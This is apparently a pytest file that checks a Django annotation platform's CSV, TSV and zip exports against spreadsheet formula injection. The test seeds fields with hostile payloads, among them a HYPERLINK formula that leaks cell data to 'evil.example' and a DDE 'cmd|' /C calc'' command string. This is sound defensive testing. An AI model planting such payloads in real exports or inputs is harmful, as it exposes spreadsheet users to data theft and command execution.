"""No CSV or TSV the platform writes hands a spreadsheet a formula, for every task type.

For each registered type, its worked example is imported with hostile text in every field the
import takes (``=HYPERLINK(…)``, ``@SUM``, ``-1+1``, a leading tab or carriage return, a tab or
line break followed by a formula), two workers with hostile names and marketplace ids answer
every item with hostile reasons and text answers, a bonus and an audit entry carry hostile
text, and every report that applies to the type is run. Then every file is fetched: the raw
annotations in every format (page, API and ``export_annotations``), the bonus ledger, the audit
logs, and every download linked from the project's pages (overview, analysis, every report's
page: the reports' files, the workers table, the types' gold files and zips), found by
following the links, so a new export or type is covered without naming it here. Every cell of
every CSV and TSV (inside zips too) must be one ``annotation.spreadsheet.safe_cell`` leaves as
it is; JSON keeps the text exactly."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from importlib import import_module
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.urls import URLPattern, resolve
from rest_framework.test import APIClient

from analysis.reports import get_report, page_url, report_kinds, report_pages
from analysis.services import analysis_run_create, analysis_run_execute
from annotation.exports import FORMATS
from annotation.models import WorkerProfile
from annotation.services import annotation_submit, assignment_next, assignment_return
from annotation.services.audit import audit_record
from annotation.spreadsheet import safe_cell
from annotation.task_types import get_task_type, task_types
from annotation.task_types.base import AnswerInvalid
from recruiting.services.bonuses import bonus_grant
from tests.factories import ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

SLUGS = [t.slug for t in task_types()]
LINK = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
# How a value is made hostile: a formula in front, or a formula after a tab or line break (a
# new cell in a TSV that does not guard it).
HOSTILE = (
    lambda v: f"={LINK}{v}",
    lambda v: f"@SUM(1+1)*cmd|' /C calc'!A0 {v}",
    lambda v: f"-1+1 {v}",
    lambda v: f"+1+2 {v}",
    lambda v: f"\t=1+1 {v}",
    lambda v: f"\r=2+2 {v}",
    lambda v: f"{v}\t=3+3",
    lambda v: f"{v}\n=4+4",
)
WORKERS = (f"={LINK}", "@worker", "-1+1")
EXTERNAL_IDS = ("+W1", "=W2")
REASON = f"={LINK} because the first argument is more convincing than the second one, clearly."
MAX_FETCHES = 400


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _hostile(value: Any, keep: set[str], path: str, plain: set[str], counter: list[int]) -> Any:
    """Every string of ``value`` made hostile, except ids inside it (other fields refer to
    them), strings an answer names (option ids) and the ``plain`` paths (``speech.stance``)."""
    if path in plain:
        return value
    if isinstance(value, str):
        if value in keep or not value:
            return value
        counter[0] += 1
        return HOSTILE[counter[0] % len(HOSTILE)](value)
    if isinstance(value, dict):
        return {k: v if path and (k == "id" or k.endswith("_id"))
                else _hostile(v, keep, f"{path}.{k}" if path else k, plain, counter) for k, v in value.items()}
    if isinstance(value, list):
        return [_hostile(v, keep, f"{path}[{i}]", plain, counter) for i, v in enumerate(value)]
    return value


def _import_hostile(api: APIClient, project, task) -> int:
    """Imports the example with as many hostile values as the type accepts: a value the import
    refuses (naming its field) is put back as it was, until the file goes in. Returns how many
    values stayed hostile."""
    example = task.example()
    keep = set(_strings(example.answer)) | set(_strings(example.form))
    plain: set[str] = set()
    for _ in range(40):
        counter = [0]
        records = [_hostile(record, keep, "", plain, counter) for record in example.records]
        upload = SimpleUploadedFile("items.json", json.dumps(records).encode())
        r = api.post(f"/api/projects/{project.slug}/items/import/", {"file": upload}, format="multipart")
        if r.status_code in (200, 201):
            return counter[0]
        assert r.status_code == 400, r.content
        refused = {str(e.get("field") or "") for e in r.json()["errors"]}
        new = refused - plain - {""}
        if not new:
            # Refused again, or without a field: the top-level field of what was named.
            new = {f.split(".")[0].split("[")[0] for f in refused if f} - plain
        if not new:
            new = {"id"} if "id" not in plain else set(example.records[0]) - plain
        plain |= new
    raise AssertionError(f"the example of {task.slug} did not import: {r.content!r}")


def _answers(task) -> list[dict]:
    """The example's answer with a hostile reason and hostile text fields, then less hostile
    ones, then the example's own: the first one the type accepts is given."""
    example = task.example()
    text_fields = [f.name for f in task.answer_fields if f.kind == "text"]
    hostile = {**example.answer, **{n: REASON for n in text_fields}}
    reason_only = {**example.answer, **({"reason": REASON} if "reason" in text_fields else {})}
    return [hostile, reason_only, example.answer]


def _answer_everything(project, task, workers) -> int:
    """Every worker answers every item the example's answer fits; returns how many answers."""
    given = 0
    for worker in workers:
        for _ in range(50):
            a = assignment_next(project=project, worker=worker).assignment
            if a is None:
                break
            for data in _answers(task):
                try:
                    annotation_submit(assignment=a, worker=worker, data=data, client={"elapsed_ms": 4000})
                except AnswerInvalid:
                    continue
                given += 1
                break
            else:
                # The example's answer names the options of its first item only: skip the others.
                assignment_return(assignment=a, worker=worker)
    return given


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(name: str, text: str) -> Iterator[tuple[int, str]]:
    """(line, cell) of a CSV or TSV text. The platform's TSV (and the UKPConvArg release's
    ".csv" files, tab-separated) are unquoted lines; its CSV is quoted as the csv module does."""
    first = text.split("\n", 1)[0]
    if name.endswith(".tsv") or "\t" in first:
        for n, line in enumerate(text.split("\n"), 1):
            for cell in line.split("\t"):
                yield n, cell
    else:
        for n, row in enumerate(csv.reader(io.StringIO(text, newline="")), 1):
            for cell in row:
                yield n, cell


def _check_table(where: str, name: str, text: str, found: dict) -> None:
    quoted = 0
    for line, cell in _cells(name, text):
        assert safe_cell(cell) == cell, f"{where} ({name}) line {line}: a spreadsheet would run {cell!r}"
        quoted += cell.startswith("'")
    found[where] = quoted


def _check_download(where: str, response, found: dict) -> None:
    kind = response.get("Content-Type", "").split(";")[0]
    disposition = response.get("Content-Disposition", "")
    name = disposition.rsplit("filename=", 1)[-1].strip('"') if "filename=" in disposition else where
    body = _body(response)
    if kind in ("text/csv", "text/tab-separated-values") or name.endswith((".csv", ".tsv")):
        _check_table(where, name, body.decode("utf-8"), found)
    elif kind == "application/zip" or name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            for member in archive.namelist():
                if member.endswith((".csv", ".tsv", ".txt")):
                    _check_table(f"{where}!{member}", member, archive.read(member).decode("utf-8"), found)


def _crawl(client: Client, starts: list[str], slug: str, found: dict) -> set[str]:
    """Follows the links of the project's pages (GET only) from ``starts``; checks every
    download. Returns the paths fetched."""
    inside = (f"/projects/{slug}/", f"/api/projects/{slug}/", "/audit.csv")
    seen: set[str] = set()
    queue = list(starts)
    while queue and len(seen) < MAX_FETCHES:
        url = queue.pop(0)
        if url in seen:
            continue
        seen.add(url)
        response = client.get(url)
        assert response.status_code < 500, (url, response.status_code)
        if response.status_code != 200:
            continue
        if response.get("Content-Type", "").startswith("text/html"):
            for href in re.findall(r'href="([^"#]+)"', response.content.decode()):
                href = href.replace("&amp;", "&")
                if href.startswith(inside) and "logout" not in href and href not in seen:
                    queue.append(href)
        else:
            _check_download(url, response, found)
    return seen


def _type_downloads(task) -> list[URLPattern]:
    """The routes of the type's URLconf that give a file (their address names one)."""
    if not task.urls:
        return []
    return [p for p in import_module(task.urls).urlpatterns if isinstance(p, URLPattern)
            and re.search(r"(\.(csv|tsv|zip|jsonl?)|files/<[^>]+>)$", str(p.pattern))]


@pytest.mark.parametrize("slug", SLUGS)
def test_every_export_of_every_type_is_safe_for_spreadsheets(slug, tmp_path):
    task = get_task_type(slug)
    example = task.example()
    project = ProjectFactory(task_type=slug, redundancy=2, options=task.clean_options(example.options))
    admin = UserFactory(role="admin", is_superuser=True)
    api = APIClient()
    api.force_authenticate(admin)
    assert _import_hostile(api, project, task) >= 1, "some imported text is hostile"

    workers = [UserFactory(username=name) for name in WORKERS]
    for worker, external_id in zip(workers, EXTERNAL_IDS, strict=False):
        WorkerProfile.objects.filter(user=worker).update(source="prolific", external_id=external_id)
    assert _answer_everything(project, task, workers) >= 2
    bonus_grant(project=project, worker=workers[0], amount=Decimal("0.50"), reason=REASON, actor=admin)
    audit_record(actor=admin, action="=1+1", project=project, target=f"@{LINK}", details={"note": REASON})

    kinds = [kind for kind, _ in report_kinds(slug)]
    runs = {}
    for kind in kinds:
        run = analysis_run_execute(run_id=analysis_run_create(project=project, kind=kind, enqueue=False).pk)
        assert run is not None and run.status == "done", (kind, run and run.error)
        runs[kind] = run

    found: dict[str, int] = {}
    client = Client(raise_request_exception=False)
    client.force_login(admin)
    # The raw annotations in every format, on the page, through the API and by the command.
    for fmt in FORMATS:
        for url in (f"/projects/{project.slug}/export/annotations.{fmt}",
                    f"/api/projects/{project.slug}/annotations/?fmt={fmt}&all=1"):
            response = client.get(url)
            assert response.status_code == 200, url
            if fmt == "csv":
                _check_download(url, response, found)
            else:
                text = _body(response).decode()
                rows = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
                assert WORKERS[0] in {row["worker"] for row in rows}, f"{url} keeps the text exact"
        out = tmp_path / f"annotations.{fmt}"
        call_command("export_annotations", project.slug, "--format", fmt, "--out", str(out))
        if fmt == "csv":
            _check_table(f"export_annotations --format {fmt}", out.name, out.read_text(encoding="utf-8"), found)
    # Everything linked from the project's pages: the bonus ledger, the audit logs, the reports'
    # files and figures, the workers table, the types' gold files and zips.
    starts = [f"/projects/{project.slug}/overview/", f"/projects/{project.slug}/analysis/",
              f"/projects/{project.slug}/export/bonuses.csv", f"/projects/{project.slug}/audit.csv", "/audit.csv"]
    starts += [page_url(key, project.slug) for key, _ in report_pages(slug)]
    fetched = _crawl(client, starts, project.slug, found)

    # The crawl reached what the registries declare: every file of every report that ran, and
    # every download route of the type (a new one must be linked from a page to be covered).
    for kind, run in runs.items():
        for name in get_report(kind).files:
            assert any(f"/runs/{run.pk}/files/{name}" in url for url in fetched), (kind, name)
    for pattern in _type_downloads(task):
        assert any(resolve(url.split("?")[0]).url_name == pattern.name for url in fetched), pattern.name
    assert any("annotations.csv" in w for w in found) and any("bonuses.csv" in w for w in found)
    assert any("audit.csv" in w for w in found)
    # Hostile text reached the files, neutralised: at least the raw export holds quoted cells.
    assert found[f"/projects/{project.slug}/export/annotations.csv"] >= 3
    assert found[f"/projects/{project.slug}/export/bonuses.csv"] >= 1


@pytest.mark.parametrize("text", ["a\t=1+1", "b\n=HYPERLINK(\"x\")", "\r@SUM(1)", "-1+1"])
def test_a_tsv_cell_never_splits_into_a_formula(text):
    from annotation.spreadsheet import tsv_line

    line = tsv_line("p1", text, -0.5)
    cells = line.rstrip("\n").split("\t")
    assert len(cells) == 3 and "\n" not in line.rstrip("\n") and "\r" not in line
    assert all(safe_cell(c) == c for c in cells) and cells[2] == "-0.5"
